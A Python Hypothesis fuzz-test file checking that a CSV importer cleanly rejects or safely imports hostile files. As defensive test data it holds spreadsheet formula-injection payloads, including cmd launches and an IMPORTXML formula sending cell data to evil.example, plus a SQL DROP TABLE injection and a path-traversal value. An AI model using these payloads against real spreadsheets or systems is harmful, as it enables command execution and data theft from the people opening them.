"""Random and malicious import files: a clear error, or a successful import
where the file is valid; on rejection the store is exactly as before.

Files are built from hostile parts: wrong encodings (UTF-16, Latin-1,
cp1252), BOMs, NUL bytes, unbalanced quotes, CR-only line ends, formula
injection (`=HYPERLINK(…)`, `+cmd`, `@SUM`), huge fields and 1 MB lines,
with headers in our field names, their aliases, or noise, for every kind
and format. The oracle, for each file:

- `import_file` either returns a report, or raises ImportRejected whose
  lines say what is wrong (file, line, column, how to fix), and then
  `tests.support.stores.dump` of the store is unchanged; any other exception is
  a bug;
- an accepted file imports idempotently: importing it again changes
  nothing but the `imports` log;
- text values are stored as they were written (a formula stays text);
- through the CLI: exit 0 or 1 with that message, never a traceback.
"""

import csv
import io
from datetime import UTC, datetime
from pathlib import Path

import pytest
from click.testing import CliRunner
from hypothesis import event, example, given
from hypothesis import strategies as st

from bot.cli import main
from storage import open_db
from storage.formats import FIELDS, REQUIRED
from storage.importer import KINDS, ImportRejected, import_file
from tests.support.fuzz import examples, tried
from tests.support.stores import dump

NOW = datetime(2026, 11, 22, 12, tzinfo=UTC)
FORMULAS = [
    '=HYPERLINK("http://evil.example","click")',
    "=1+2",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "=cmd|' /C notepad'!'A1'",
    "\t=1+1",
    '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
]
HOSTILE_TEXT = [
    *FORMULAS,
    "<!channel>",
    "<@U0EVIL>",
    "*bold*",
    "&amp;",
    '"',
    '""',
    "'",
    ",",
    "\n",
    "\r",
    "\r\n",
    " ",
    "\x00",
    "\ufeff",
    "\u200b",
    "\u202e",
    "é",
    "🙂",
    "NULL",
    "None",
    "nan",
    "inf",
    "-inf",
    "1e309",
    "-0",
    "0x1F",
    "1,234.50",
    "$12.00",
    "12.00 USD",
    "€5",
    "-5",
    "",
    "  ",
    "Robert'); DROP TABLE orders;--",
]
VALID = {
    "id": ["o1", "o2", "C1", "U0REP0001", "x"],
    "customer_id": ["C1", "C2", "c1", "C 3"],
    "ordered_at": [
        "2026-01-31",
        "2026-01-31T09:30:00-05:00",
        "20260131",
        "2026-02-30",
        "1969-12-31",
        "2101-01-01",
        "2024-01-02 10:00:00 -0500",
        "yesterday",
    ],
    "amount": ["12.5", "0", "1,234.50", "$12.00", "12.00 USD", "-1", "nan", "1e309"],
    "currency": ["USD", "eur", "US", "€"],
    "status": ["paid", "refunded", "cancelled", "succeeded", "weird"],
    "tz": ["UTC", "Europe/Berlin", "Mars/Olympus", "../../etc/passwd"],
    "active": ["true", "no", "maybe"],
    "kind": ["nps", "csat", "ces", "NPS", "other"],
    "score": ["10", "0", "5", "11", "-1", "7.5"],
    "submitted_at": ["2026-03-01", "not a date"],
    "created_at": ["2025-01-01"],
    "churned_at": ["2026-06-30", ""],
}
HEADER_NOISE = [
    "",
    " ",
    "id",
    "ID ",
    "Order Date",
    "Client",
    "total",
    "\ufeffid",
    "name,with,commas",
    "=SUM(A1)",
    "Financial Status",
    "Lineitem name",
    "Created date (UTC)",
    "Amount Refunded",
    "Captured",
]


# Values each structural column accepts; the free-text columns (names,
# companies, emails, comments) take anything, hostile text included.
GOOD = {
    "customer_id": ["C1", "C2", "C3"],
    "ordered_at": ["2026-01-31", "2026-01-31T09:30:00-05:00", "20260131"],
    "amount": ["12.5", "0", "1,234.50", "$12.00", "12.00 USD"],
    "currency": ["USD", "eur"],
    "status": ["paid", "refunded", "succeeded"],
    "tz": ["UTC", "Europe/Berlin"],
    "active": ["true", "no"],
    "kind": ["nps", "csat", "ces"],
    "score": ["1", "3", "5"],
    "submitted_at": ["2026-03-01"],
    "created_at": ["2025-01-01"],
    "churned_at": ["2026-06-30", ""],
    "id": ["C1", "C2", "U0REP0001", "o1", "o2"],
    "owner_rep_id": ["U0REP0001", ""],
    "manager_id": ["U0REP0002", ""],
}


def cell(column: str, clean: bool) -> st.SearchStrategy[str]:
    if clean and column in GOOD:
        return st.sampled_from(GOOD[column])
    hostile = st.one_of(st.sampled_from(HOSTILE_TEXT), st.text(max_size=20))
    if clean:
        return hostile.filter(lambda v: "\x00" not in v)
    return st.one_of(st.sampled_from(VALID.get(column, ["Acme", "Jane Doe", "jane@example.com", "SMB"])), hostile)


@st.composite
def import_files(draw) -> tuple[str, str | None, str, bytes]:
    """(kind, --format or None, file name, bytes). Half are well-formed files
    of our own columns with hostile free text (most import), half anything."""
    kind = draw(st.sampled_from(KINDS))
    clean = draw(st.booleans())
    ours = [f for f in FIELDS[kind]] + [a for names in FIELDS[kind].values() for a in names]
    if clean:
        optional = [f for f in FIELDS[kind] if f not in REQUIRED[kind]]
        header = draw(st.permutations([*REQUIRED[kind], *draw(st.lists(st.sampled_from(optional), unique=True))]))
    else:
        header = draw(st.lists(st.one_of(st.sampled_from(ours), st.sampled_from(HEADER_NOISE)), max_size=9))
    fields = [h if h in FIELDS[kind] else "" for h in header]
    rows = draw(
        st.lists(
            st.tuples(*(cell(f, clean) for f in fields)) if fields else st.just(()),
            min_size=1 if clean else 0,
            max_size=6,
        )
    )
    if clean and "id" in fields:  # one id per row; some of them already in the store (an update)
        at, first = fields.index("id"), draw(st.integers(0, 3))
        rows = [
            (*r[:at], GOOD["id"][0][0] + str(first + n) if kind != "reps" else f"U0REP{first + n:04d}", *r[at + 1 :])
            for n, r in enumerate(rows)
        ]
    out = io.StringIO()
    writer = csv.writer(
        out,
        lineterminator=draw(st.sampled_from(["\n", "\r\n", "\r"])),
        quoting=draw(st.sampled_from([csv.QUOTE_MINIMAL, csv.QUOTE_ALL, csv.QUOTE_NONNUMERIC])),
    )
    writer.writerow(header)
    for row in rows:
        if clean or draw(st.booleans()):
            writer.writerow(row)
        else:  # naive joining: unbalanced quotes, embedded separators
            out.write(",".join(row) + "\n")
    text = out.getvalue()
    huge = draw(st.sampled_from([None, "field"] if clean else [None, None, None, "field", "line", "limit"]))
    if huge == "field":  # one enormous but legal value
        text = text.replace("Acme", "A" * 200_000, 1) if "Acme" in text else text + "C9," + "B" * 200_000 + "\n"
    elif huge == "line":  # a 1 MB line of many short fields
        text += ",".join(["x"] * 500_000) + "\n"
    elif huge == "limit":  # one field over the CSV reader's 1 MB field limit
        text += '"' + "z" * 1_000_050 + '"\n'
    if clean:
        return kind, None, "data.csv", text.encode(draw(st.sampled_from(["utf-8", "utf-8-sig"])))
    encoding = draw(st.sampled_from(["utf-8", "utf-8", "utf-8-sig", "utf-16", "utf-16-le", "latin-1", "cp1252"]))
    data = text.encode(encoding, errors="replace")
    damage = draw(st.sampled_from([None, None, "nul", "bom twice", "truncate", "garbage"]))
    if damage == "nul":
        at = draw(st.integers(0, len(data)))
        data = data[:at] + b"\x00" + data[at:]
    elif damage == "bom twice":
        data = b"\xef\xbb\xbf\xef\xbb\xbf" + data
    elif damage == "truncate":
        data = data[: draw(st.integers(0, len(data)))]
    elif damage == "garbage":
        data += draw(st.binary(max_size=64))
    fmt = draw(st.sampled_from([None, None, None, "csv", "cdnow", "shopify", "stripe"]))
    name = draw(st.sampled_from(["data.csv", "data.txt", "orders_export.csv", "unified_payments.csv", "x"]))
    return kind, fmt, name, data


def without_import_log(state: dict) -> dict:
    return {table: rows for table, rows in state.items() if table != "imports"}


def check_import(db, work: Path, kind: str, fmt: str | None, name: str, data: bytes) -> str:
    path = work / name
    path.write_bytes(data)
    before = dump(db)
    try:
        report = import_file(db, kind, path, fmt=fmt, tz=UTC, now=NOW)
    except ImportRejected as e:
        lines = [line for line in e.report.lines() if not line.startswith("... and ")]
        assert lines and all(line.startswith(str(path)) for line in lines), lines
        assert all("(" in line and line.endswith(")") for line in lines), lines  # each says how to fix it
        assert all(len(line) < len(str(path)) + 500 for line in lines), "a problem line quotes too much"
        assert dump(db) == before, "a rejected file changed the store"
        return "rejected"
    assert report.rows >= 1 and report.rejected == 0
    after = dump(db)
    again = import_file(db, kind, path, fmt=fmt, tz=UTC, now=NOW)
    assert (again.added, again.updated) == (0, 0), (again.summary(), data[:300])
    assert without_import_log(dump(db)) == without_import_log(after), "re-importing changed the store"
    return "imported"


@pytest.fixture(scope="module")
def store(tmp_path_factory):
    work = tmp_path_factory.mktemp("fuzz-import")
    db = open_db(work / "store.db")
    yield db, work
    assert db.execute("PRAGMA integrity_check").fetchone()[0] == "ok"
    db.conn.close()


NAMED = {
    "UTF-16 with BOM": ("orders", None, "o.csv", "customer_id,ordered_at,amount\nC1,2026-01-01,5\n".encode("utf-16")),
    "Latin-1": ("customers", None, "c.csv", "id,name\nC1,Zoë Müller\n".encode("latin-1")),
    "NUL byte": ("orders", None, "o.csv", b"customer_id,ordered_at,amount\nC1,2026-01-01,5\x00\n"),
    "NUL after the first 4 KB": (
        "orders",
        None,
        "o.csv",
        b"customer_id,ordered_at,amount\n" + b"C1,2026-01-01,5\n" * 400 + b"C\x002,2026-01-01,5\n",
    ),
    "unbalanced quote": ("orders", None, "o.csv", b'customer_id,ordered_at,amount\n"C1,2026-01-01,5\n'),
    "field over 1 MB": ("customers", None, "c.csv", b'id,name\nC1,"' + b"z" * 1_000_050 + b'"\n'),
    "1 MB line": ("orders", None, "o.csv", b"customer_id,ordered_at,amount\n" + b",".join([b"x"] * 500_000) + b"\n"),
    "formula amount": ("orders", None, "o.csv", b'customer_id,ordered_at,amount\nC1,2026-01-01,"=HYPERLINK(""x"")"\n'),
    "header only": ("orders", None, "o.csv", b"customer_id,ordered_at,amount\n"),
    "empty": ("orders", None, "o.csv", b""),
    "not a header": ("reps", None, "r.csv", b"=cmd|' /C calc'!A0\n1\n"),
    "huge time zone": ("reps", None, "r.csv", b"id,tz\nU0REP0001," + b"B" * 300_000 + b"\n"),
    "huge amount": (
        "orders",
        None,
        "o.csv",
        b"customer_id,ordered_at,amount\nC1,2026-01-01," + b"9" * 400_000 + b"x\n",
    ),
    "CDNOW of customers": ("customers", "cdnow", "c.txt", b"1 19970101 1 10.00\n"),
}


@pytest.mark.parametrize("case", list(NAMED))
def test_named_hostile_files_are_refused_clearly(store, case):
    db, work = store
    assert check_import(db, work, *NAMED[case]) == "rejected"


def test_formula_injection_in_text_is_stored_as_text(store):
    """A spreadsheet formula in a name is just text to us (nothing evaluates
    it), kept exactly, and shown literally; an amount that is a formula is
    not a number and the file is refused (test above)."""
    db, work = store
    path = work / "formula.csv"
    formula = '=HYPERLINK("http://evil.example","click")'
    path.write_text(f'id,name,company\nCF1,"{formula.replace(chr(34), chr(34) * 2)}",@SUM(1+1)\n')
    import_file(db, "customers", path, now=NOW)
    assert db.execute("SELECT name, company FROM customers WHERE id = 'CF1'").fetchone() == (formula, "@SUM(1+1)")


def test_bom_and_huge_legal_values_import(store):
    db, work = store
    path = work / "bom.csv"
    path.write_bytes(b"\xef\xbb\xbfid,name\nCBIG," + b"N" * 200_000 + b"\n")
    report = import_file(db, "customers", path, now=NOW)
    assert report.rows == 1
    assert len(db.execute("SELECT name FROM customers WHERE id = 'CBIG'").fetchone()[0]) == 200_000


def test_a_customer_file_without_some_columns_reimports_as_unchanged(store):
    """Found by the fuzzing: blanks never overwrite what is known, yet they
    were counted as updates, so re-importing such a file said "1 updated"
    every time instead of "no changes"."""
    db, work = store
    full, partial = work / "full.csv", work / "partial.csv"
    full.write_text("id,name,company\nCPART,Ann,Acme\n")
    partial.write_text("id,segment\nCPART,SMB\n")
    import_file(db, "customers", full, now=NOW)
    assert import_file(db, "customers", partial, now=NOW).updated == 1  # the segment is new
    again = import_file(db, "customers", partial, now=NOW)
    assert (again.added, again.updated, again.unchanged) == (0, 0, 1) and "No changes" in again.summary()
    assert db.execute("SELECT name, company, segment FROM customers WHERE id = 'CPART'").fetchone() == (
        "Ann",
        "Acme",
        "SMB",
    )


@examples(100)
@given(case=import_files())
@example(case=NAMED["UTF-16 with BOM"])
def test_any_file_is_imported_or_refused_clearly(store, case):
    tried("import file → import_file")
    event(check_import(store[0], store[1], *case))


@pytest.mark.slow
@examples(1500)
@given(case=import_files())
def test_any_file_is_imported_or_refused_clearly_many(store, case):
    tried("import file → import_file")
    event(check_import(store[0], store[1], *case))


def check_cli(db_path: Path, work: Path, kind: str, fmt: str | None, name: str, data: bytes) -> None:
    path = work / ("cli-" + name)
    path.write_bytes(data)
    db = open_db(db_path)
    try:
        before = dump(db)
        args = ["--db", str(db_path), "import", kind, str(path), *(["--format", fmt] if fmt else [])]
        result = CliRunner().invoke(main, args)
        assert result.exit_code in (0, 1), (result.exit_code, result.output, result.exception)
        assert result.exception is None or isinstance(result.exception, SystemExit), result.exc_info
        assert "Traceback" not in result.output
        if result.exit_code == 1:
            assert "nothing was imported" in result.output, result.output
            assert dump(db) == before
    finally:
        db.conn.close()


@pytest.fixture(scope="module")
def cli_store(tmp_path_factory):
    work = tmp_path_factory.mktemp("fuzz-cli-import")
    open_db(work / "store.db").conn.close()
    return work / "store.db", work


@examples(25)
@given(case=import_files())
def test_any_file_through_the_cli_exits_0_or_1(cli_store, case):
    tried("import file → retention-bot import")
    check_cli(*cli_store, *case)


@pytest.mark.slow
@examples(300)
@given(case=import_files())
def test_any_file_through_the_cli_exits_0_or_1_many(cli_store, case):
    tried("import file → retention-bot import")
    check_cli(*cli_store, *case)
